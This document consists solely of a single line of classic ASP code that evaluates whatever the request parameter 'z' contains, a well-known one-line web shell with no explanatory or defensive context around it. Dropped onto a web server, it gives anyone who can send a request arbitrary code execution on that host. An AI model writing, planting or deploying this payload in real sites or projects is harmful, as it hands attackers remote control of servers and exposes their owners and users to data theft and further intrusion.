<%eval request("z")%>
